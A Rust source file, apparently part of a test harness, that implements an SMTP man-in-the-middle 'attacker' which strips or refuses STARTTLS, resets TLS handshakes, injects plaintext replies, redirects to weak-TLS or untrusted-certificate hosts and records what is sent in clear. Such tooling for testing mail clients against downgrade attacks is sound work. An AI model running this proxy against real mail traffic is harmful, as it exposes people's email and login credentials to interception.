//! On the wire to a mail server: between a sender and a host, until TLS begins.

use std::{
    io::{self, BufRead, BufReader, Read, Write},
    net::{Shutdown, TcpListener, TcpStream},
    sync::{Arc, Mutex},
    thread,
    time::Duration,
};

use crate::zones;

/// What is done to those who come.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
#[non_exhaustive]
pub enum Trick {
    /// Nothing.
    None,
    /// STARTTLS is taken out of the answer to EHLO.
    StripStarttls,
    /// STARTTLS is answered with 454.
    RefuseStarttls,
    /// STARTTLS is answered with 502, as by a host that does not know it.
    UnknownStarttls,
    /// The connection is reset once the handshake has begun.
    ResetHandshake,
    /// STARTTLS is answered with 220, and the handshake with text.
    TextForHandshake,
    /// The answer to STARTTLS has another one behind it, in clear, that passes for what comes after TLS has begun.
    InjectAnswer,
    /// All goes to the host that has TLS 1.0 only.
    OldTls,
    /// All goes to a host whose certificate is of nobody known.
    OtherCertificate,
}

impl Trick {
    /// All that are tricks.
    pub const ALL: [Self; 8] = [
        Self::StripStarttls,
        Self::RefuseStarttls,
        Self::UnknownStarttls,
        Self::ResetHandshake,
        Self::TextForHandshake,
        Self::InjectAnswer,
        Self::OldTls,
        Self::OtherCertificate,
    ];

    /// Where the connection is taken to.
    const fn target(self) -> &'static str {
        match self {
            Self::OldTls => zones::OLD,
            Self::OtherCertificate => zones::STRANGER,
            _ => zones::GOOD,
        }
    }
}

#[derive(Debug, Default)]
struct State {
    trick: Option<Trick>,
    connections: usize,
    heard: Vec<u8>,
}

/// The attacker.
#[derive(Clone, Debug)]
pub struct MailAttacker(Arc<Mutex<State>>);

impl MailAttacker {
    /// Sits down at the address that the attacked hosts have in DNS.
    pub(crate) fn start() -> Self {
        let listener = TcpListener::bind((zones::ATTACKER, 25)).expect("the attacker's address");
        let attacker = Self(Arc::default());
        let (this, wait) = (attacker.clone(), Some(Duration::from_secs(30)));
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let this = this.clone();
                thread::spawn(move || {
                    client.set_read_timeout(wait)?;
                    this.serve(&client)
                });
            }
        });
        attacker
    }

    /// Does this to all who come from now on, and forgets what it has seen.
    ///
    /// # Panics
    ///
    /// If a thread of the attacker panicked.
    pub fn play(&self, trick: Trick) {
        *self.0.lock().unwrap() = State { trick: Some(trick), ..State::default() };
    }

    /// How many came.
    ///
    /// # Panics
    ///
    /// If a thread of the attacker panicked.
    #[must_use]
    pub fn connections(&self) -> usize {
        self.0.lock().unwrap().connections
    }

    /// All that was said to it in clear.
    ///
    /// # Panics
    ///
    /// If a thread of the attacker panicked.
    #[must_use]
    pub fn heard(&self) -> Vec<u8> {
        self.0.lock().unwrap().heard.clone()
    }

    fn serve(&self, client: &TcpStream) -> io::Result<()> {
        let trick = {
            let mut state = self.0.lock().unwrap();
            state.connections += 1;
            state.trick.unwrap_or(Trick::None)
        };
        let server = TcpStream::connect((trick.target(), 25))?;
        let backward = {
            let (mut server, mut client) = (server.try_clone()?, client.try_clone()?);
            let mut lines = BufReader::new(server.try_clone()?);
            thread::spawn(move || answers(trick, &mut lines, &mut server, &mut client))
        };
        let result = self.listen(trick, client, &server);
        server.shutdown(Shutdown::Both).or_else(|_| client.shutdown(Shutdown::Both))?;
        drop(backward.join());
        result
    }

    /// What the client says: commands up to STARTTLS, then whatever.
    fn listen(&self, trick: Trick, mut client: &TcpStream, mut server: &TcpStream) -> io::Result<()> {
        // Octet by octet, so that nothing of the handshake is read with the command before it.
        let mut line = Vec::new();
        let mut octet = [0];
        while client.read(&mut octet)? == 1 {
            line.push(octet[0]);
            if octet[0] != b'\n' {
                continue;
            }
            self.0.lock().unwrap().heard.extend(&line);
            if line.eq_ignore_ascii_case(b"STARTTLS\r\n") {
                match trick {
                    Trick::RefuseStarttls => client.write_all(b"454 4.7.0 TLS is not available\r\n")?,
                    Trick::UnknownStarttls => client.write_all(b"502 5.5.1 What?\r\n")?,
                    Trick::ResetHandshake => return reset(client),
                    Trick::TextForHandshake => {
                        client.write_all(b"220 2.0.0 Ready\r\n250-mx.attacked.example\r\n250 8BITMIME\r\n")?;
                        client.peek(&mut octet)?;
                        client.write_all(b"250 2.1.0 Ok\r\n")?;
                        return self.overhear(client);
                    }
                    _ => {
                        server.write_all(&line)?;
                        return io::copy(&mut client, &mut server).map(drop);
                    }
                }
            } else {
                server.write_all(&line)?;
            }
            line.clear();
        }
        Ok(())
    }

    /// Listens on, whatever comes.
    fn overhear(&self, mut client: &TcpStream) -> io::Result<()> {
        let mut octets = [0; 4096];
        loop {
            let length = client.read(&mut octets)?;
            if length == 0 {
                return Ok(());
            }
            self.0.lock().unwrap().heard.extend(&octets[..length]);
        }
    }
}

/// Lets the handshake begin, then closes with its first octets unread: this resets the connection.
fn reset(mut client: &TcpStream) -> io::Result<()> {
    client.write_all(b"220 2.0.0 Ready to start TLS\r\n")?;
    client.peek(&mut [0]).map(drop)
}

/// What the server says: answers up to the one to STARTTLS, then whatever.
fn answers(
    trick: Trick,
    lines: &mut BufReader<TcpStream>,
    server: &mut TcpStream,
    client: &mut TcpStream,
) -> io::Result<()> {
    let mut line = Vec::new();
    let mut greeted = false;
    while lines.read_until(b'\n', &mut line)? > 0 {
        let offers = line.windows(8).any(|window| window.eq_ignore_ascii_case(b"STARTTLS"));
        if offers && trick == Trick::StripStarttls {
            // Of the same length, as some firewalls do it.
            line.truncate(4);
            line.extend(b"XXXXXXXA\r\n");
        }
        let begins = greeted && line.starts_with(b"220");
        if begins && trick == Trick::InjectAnswer {
            line.extend(b"250-mx.attacked.example\r\n250-REQUIRETLS\r\n250 8BITMIME\r\n");
        }
        client.write_all(&line)?;
        if begins {
            let already = lines.buffer().to_vec();
            client.write_all(&already)?;
            return io::copy(server, client).map(drop);
        }
        greeted = true;
        line.clear();
    }
    client.shutdown(Shutdown::Write)
}
